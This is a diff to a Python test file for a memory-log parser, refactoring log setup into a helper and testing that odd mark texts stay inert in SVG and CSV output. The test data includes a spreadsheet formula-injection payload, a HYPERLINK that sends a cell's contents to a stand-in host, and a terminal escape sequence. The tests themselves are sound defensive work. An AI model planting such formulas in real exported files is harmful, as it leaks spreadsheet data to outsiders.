@@ -347,15 +347,21 @@ def test_a_window_start_beyond_2_63_is_one_sentence(tmp_path, capsys):
     )
 
 
-def test_a_mark_with_control_characters_keeps_the_timeline_well_formed(tmp_path, capsys):
+def marked_log(tmp_path, *marks: bytes):
+    """A log of one allocation and then these marks' texts, 100 ns apart."""
     log = tmp_path / "x_1.0001.1.memlog"
     log.write_bytes(
         header()
         + stack_record(1, [0x401000])
         + event_of_heap(0, 1000, 64, 0x10, 1)
-        + mark_record(1500, b"a\x01b\x1b[2J <&> \xff")
+        + b"".join(mark_record(1500 + 100 * k, text) for k, text in enumerate(marks))
         + timeline_record(100_000_000, 64, 64)
     )
+    return log
+
+
+def test_a_mark_with_control_characters_keeps_the_timeline_well_formed(tmp_path, capsys):
+    log = marked_log(tmp_path, b"a\x01b\x1b[2J <&> \xff")
     svg = tmp_path / "t.svg"
     code, _, err = run_main(
         capsys, mem_parser.main, "-p", "/bin/true\x7f", "-f", log, "--timeline", svg
@@ -367,15 +373,7 @@ def test_a_mark_with_control_characters_keeps_the_timeline_well_formed(tmp_path,
 
 
 def test_a_mark_a_spreadsheet_would_run_is_text_in_the_csv(tmp_path, capsys):
-    log = tmp_path / "x_1.0001.1.memlog"
-    log.write_bytes(
-        header()
-        + stack_record(1, [0x401000])
-        + event_of_heap(0, 1000, 64, 0x10, 1)
-        + mark_record(1500, b'=HYPERLINK("http://x.example/?"&A1,"open")')
-        + mark_record(1600, b"@SUM(1)")
-        + timeline_record(100_000_000, 64, 64)
-    )
+    log = marked_log(tmp_path, b'=HYPERLINK("http://x.example/?"&A1,"open")', b"@SUM(1)")
     table = tmp_path / "e.csv"
     code, _, err = run_main(
         capsys, mem_parser.main, "-p", "/bin/true", "-f", log, "--events-csv", table
